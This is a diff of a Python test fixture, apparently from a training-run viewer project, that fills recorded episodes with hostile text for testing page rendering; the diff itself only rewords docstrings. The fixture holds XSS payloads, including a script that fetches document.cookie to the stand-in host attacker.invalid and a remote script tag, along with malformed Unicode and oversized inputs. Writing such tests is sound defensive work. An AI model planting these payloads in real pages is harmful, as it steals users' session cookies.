@@ -1,4 +1,4 @@
-"""A run whose every text was written by an attacker who knows that it will be shown in a page."""
+"""A run in which an attacker wrote every text that a page shows."""
 
 from __future__ import annotations
 
@@ -15,7 +15,7 @@ from ragen.storage.recorder import Recorder
 
 ELSEWHERE = "http://attacker.invalid"
 HIT = "window.hit = 1; alert(1); fetch(`//attacker.invalid/${document.cookie}`)"
-"""What no page may ever do."""
+"""Code that no page may execute."""
 
 ATTACKS = {
     "script": f"<script>{HIT}</script><script src={ELSEWHERE}/x.js></script>",
@@ -35,16 +35,16 @@ ATTACKS = {
     "surrogate": "half \ud83d a pair \udfff",
     "marks": "Z" + "\u0334\u0335\u0336\u0337\u0338" * 200,
 }
-"""Kind of attack to a text that tries it."""
+"""The kind of an attack and a text that attempts it."""
 
 LONG = "x" * 1_000_000
-"""A line of 1 MB, without a place to break it."""
+"""A line of 1 MB without a line break opportunity."""
 MANY = 100_000
-"""Tokens of the longest sequence."""
+"""The number of tokens of the longest sequence."""
 
 
 def turn(text: str, ids: tuple[int, ...] = (7, 8), prompt: tuple[int, ...] = (1, 2)) -> Turn:
-    """A turn that says nothing but `text`, wherever it can say something."""
+    """A turn with `text` in every text field."""
     logprobs = (-0.5,) * len(ids)
     reply = f"{text}</think><answer>{text}</answer>"
     return Turn(
@@ -65,7 +65,7 @@ def turn(text: str, ids: tuple[int, ...] = (7, 8), prompt: tuple[int, ...] = (1,
 
 
 def episode(number: int, *turns: Turn, text: str) -> Episode:
-    """The `number`-th group's only member."""
+    """The only episode of group `number`."""
     return Episode(
         env=ATTACKS["handler"],
         level_seed=123,
@@ -83,7 +83,7 @@ def episode(number: int, *turns: Turn, text: str) -> Episode:
 
 
 def make_hostile(folder: Path) -> None:
-    """Write the run: an episode an attack, then one of long lines and one of many tokens."""
+    """Write the run: one episode per attack, one with a long line, and one with many tokens."""
     texts = [*ATTACKS.values(), LONG]
     ids = tuple(5 + index % 40 for index in range(MANY))
     many = episode(len(texts), turn("many tokens", ids), text="many tokens")
@@ -97,7 +97,7 @@ def make_hostile(folder: Path) -> None:
             recorder.episodes(step, [*groups, Group((many,))], phase="eval")
             recorder.episodes(step, groups)
             recorder.commit()
-            for text in list(ATTACKS.values())[:: (1, -1)[step]]:  # a chart tells the first few
+            for text in list(ATTACKS.values())[:: (1, -1)[step]]:  # A chart shows the first few.
                 clean = text.encode("utf-8", "replace").decode("utf-8")
                 recorder.event(step, "alarm", clean, {"detector": clean})
             short = list(ATTACKS.values())
